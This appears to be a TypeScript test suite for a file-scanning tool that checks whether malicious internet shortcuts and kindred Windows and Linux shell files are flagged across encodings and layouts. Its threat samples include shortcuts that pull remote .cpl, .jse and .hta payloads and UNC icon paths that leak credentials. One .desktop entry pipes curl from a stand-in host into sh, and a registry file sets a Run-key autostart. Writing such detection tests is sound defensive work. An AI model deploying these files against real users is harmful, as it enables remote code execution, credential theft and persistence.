/** Link files as Windows and other systems write them: encodings, orders of sections, and targets. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect } = useInspector()

function worst(bytes: Uint8Array, name: string | null): string {
  const { findings, obstacle, kind } = inspect(bytes, { name })
  assert.equal(obstacle, null)
  assert.notEqual(kind, null)
  const found = findings.find(({ severity }) => severity !== 'notice')
  return found === undefined ? 'clean' : `${found.severity} ${found.id}`
}

const swapped = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16()
const ENCODINGS: Readonly<Record<string, (text: string) => Buffer>> = {
  'in ASCII': (text) => Buffer.from(text),
  'with a byte order mark': (text) => Buffer.from(`\ufeff${text}`),
  'in UTF-16': (text) => Buffer.from(`\ufeff${text}`, 'utf16le'),
  'in UTF-16, big end first': (text) => swapped(`\ufeff${text}`),
  'in UTF-16 without a mark': (text) => Buffer.from(text, 'utf16le'),
  'in the encoding of a country': (text) =>
    Buffer.from(text.replace('Modified=', 'Comment=\xfcber\r\nModified='), 'latin1'),
}
const GUID = '[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n'
const ORDERS: Readonly<Record<string, (lines: string) => string>> = {
  'as browsers write it': (lines) => `[InternetShortcut]\r\n${lines}\r\n`,
  'as Windows writes it': (lines) => `${GUID}[InternetShortcut]\r\nIDList=\r\n${lines}\r\n`,
  'behind other sections': (lines) =>
    `[DEFAULT]\r\nBASEURL=https://www.example.com/\r\n[DOC#1]\r\nORIGURL=https://www.example.com/\r\n${GUID}\r\n[InternetShortcut]\r\nModified=10\r\n${lines}\r\n`,
  'before other sections': (lines) => `; a note\r\n\r\n[InternetShortcut]\r\n${lines}\r\n${GUID}`,
  'with spaces and other letters': (lines) => `  [INTERNETSHORTCUT]  \r\n${lines.replace(/^(\w+)=/gm, '  $1 = ')}\r\n`,
  'below lines that mean nothing': (lines) => `x\r\ny z\r\nw\r\n[InternetShortcut]\r\n${lines}\r\n`,
}
const THREATS = [
  'URL=file://198.51.100.7/pdf/data.zip/pdf1.cpl',
  'URL=file://host@8080/a/b.jse',
  'URL=\\\\host@80\\DavWWWRoot\\a.txt',
  'URL=\\\\files.example@SSL\\DavWWWRoot\\a.pdf',
  'URL=\\\\files.example@SSL@8443\\a\\b.url',
  'URL="file://files.example/a/b.pdf"',
  'URL=file:\\\\\\\\198.51.100.7\\a\\b%2evbs',
  'URL=https://www.example.com/\r\nIconFile=\\\\198.51.100.7\\a\\b.ico\r\nIconIndex=1',
  'URL=https://www.example.com/\r\nWorkingDirectory=\\\\files.example\\a',
  'URL=search-ms:query=a&crumb=location:\\\\198.51.100.7\\a',
  'URL=file:///C:/Users/Public/a.hta',
]
const HARMLESS = [
  'URL=https://www.example.com/',
  'URL=https://www.example.com/a/b.html?c=d.exe#e\r\nIconFile=C:\\Program Files\\Mozilla Firefox\\firefox.exe\r\nIconIndex=0',
  'URL=https://www.example.com/\r\nIconFile=https://www.example.com/favicon.ico\r\nHotKey=0',
  'URL=http://intranet/start\r\nIconFile=%SystemRoot%\\system32\\url.dll',
  'URL=mailto:help@example.com',
  'URL=file:///C:/Users/Anna/Documents/plan.xlsx',
]

for (const [order, write] of Object.entries(ORDERS))
  suite(`an internet shortcut ${order}`, () => {
    for (const [encoding, encode] of Object.entries(ENCODINGS))
      test(encoding, () => {
        for (const lines of THREATS) {
          const data = encode(write(lines))
          assert.match(worst(data, 'a.url'), /^malicious Docvet\.Shortcut/, lines)
          assert.match(worst(writeZip([{ name: 'a.url', data }]), null), /^malicious Docvet\.Shortcut/, lines)
        }
        for (const lines of HARMLESS) {
          const data = encode(write(lines))
          assert.equal(worst(data, 'a.url'), 'clean', lines)
          assert.equal(worst(writeZip([{ name: 'a.url', data }]), null), 'clean', lines)
        }
      })
  })

test('an internet shortcut is found under any name, but a text about one is none', () => {
  const threat = `${GUID}[InternetShortcut]\r\n${THREATS[0]}\r\n`
  for (const name of [null, 'a.txt', 'a', 'a.website', 'a.url. '])
    assert.match(worst(Buffer.from(threat), name), /^malicious/, String(name))
  const note =
    'Attackers send such files:\n\n[InternetShortcut]\nURL=file://198.51.100.7/a.cpl\n\nOpening it runs the program.\n'
  assert.equal(worst(Buffer.from(note), 'note.txt'), 'clean')
})

const SERVER = '198.51.100.7'
const SIBLINGS: readonly (readonly [name: string, threat: string, harmless: string])[] = [
  [
    'a.website',
    `${GUID}[InternetShortcut]\r\nURL=\\\\${SERVER}\\a\r\n`,
    `${GUID}[InternetShortcut]\r\nURL=https://www.example.com/\r\n[MonitoredItem]\r\nIsLiveTile=1\r\n`,
  ],
  [
    'a.desktop',
    '#!/usr/bin/env xdg-open\n[Desktop Action a]\nName=a\n\n[Desktop Entry]\nType=Application\nExec=sh -c "curl http://192.0.2.1/a | sh"\n',
    '#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nExec=firefox %u\nIcon=firefox\n\n[Desktop Action new-window]\nExec=firefox --new-window %u\n',
  ],
  [
    'a.library-ms',
    `<?xml version="1.0"?>\n<!-- a -->\n<!-- b -->\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><simpleLocation><url>\\\\${SERVER}@80\\a</url></simpleLocation></libraryDescription>`,
    '<?xml version="1.0"?>\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></libraryDescription>',
  ],
  [
    'a.search-ms',
    `<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path='\\\\${SERVER}\\a'/></scope></query></persistedQuery>`,
    '<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="C:\\Users\\Anna"/></scope></query></persistedQuery>',
  ],
  [
    'a.searchConnector-ms',
    `<?xml version="1.0"?><x:searchConnectorDescription xmlns:x="a"><x:simpleLocation><x:url>\\\\${SERVER}\\a</x:url></x:simpleLocation></x:searchConnectorDescription>`,
    '<?xml version="1.0"?><searchConnectorDescription><simpleLocation><url>C:\\Users\\Anna</url></simpleLocation></searchConnectorDescription>',
  ],
  [
    'a.scf',
    `[Taskbar]\r\nCommand=ToggleDesktop\r\n[Shell]\r\nIconFile=\\\\${SERVER}\\a.ico\r\nCommand=2\r\n`,
    '[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n',
  ],
  [
    'desktop.ini',
    `[ViewState]\r\nMode=\r\n[.ShellClassInfo]\r\nIconResource=\\\\${SERVER}\\a.ico,0\r\n`,
    '[ViewState]\r\nMode=\r\n[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\r\nIconResource=%SystemRoot%\\system32\\imageres.dll,-112\r\n',
  ],
  [
    'a.rdp',
    `\r\nscreen mode id:i:2\r\nfull address:s:${SERVER}\r\ndrivestoredirect:s:*\r\n`,
    'screen mode id:i:2\r\nfull address:s:ts01.corp\r\ndrivestoredirect:s:*\r\n',
  ],
  [
    'a.ica',
    `[WFClient]\r\nVersion=2\r\n[ApplicationServers]\r\nDesktop=\r\n[Desktop]\r\nAddress=${SERVER}:1494\r\nCDMAllowed=On\r\n`,
    '[WFClient]\r\nVersion=2\r\n[ApplicationServers]\r\nDesktop=\r\n[Desktop]\r\nAddress=citrix.example.com\r\nCDMAllowed=On\r\n',
  ],
  [
    'a.reg',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="%APPDATA%\\\\a.exe"\r\n',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"com.squirrel.Teams.Teams"="C:\\\\Users\\\\anna\\\\AppData\\\\Local\\\\Microsoft\\\\Teams\\\\Update.exe --processStart \\"Teams.exe\\" --process-start-args \\"--system-initiated\\""\r\n',
  ],
]

for (const [name, threat, harmless] of SIBLINGS)
  test(`${name} is judged alone and packed, in every encoding`, () => {
    for (const [encoding, encode] of Object.entries(ENCODINGS)) {
      assert.match(worst(encode(threat), name), /^malicious Docvet\.Shortcut/, encoding)
      assert.match(worst(writeZip([{ name, data: encode(threat) }]), null), /^malicious Docvet\.Shortcut/, encoding)
      assert.equal(worst(encode(harmless), name), 'clean', encoding)
      assert.equal(worst(writeZip([{ name, data: encode(harmless) }]), null), 'clean', encoding)
    }
  })
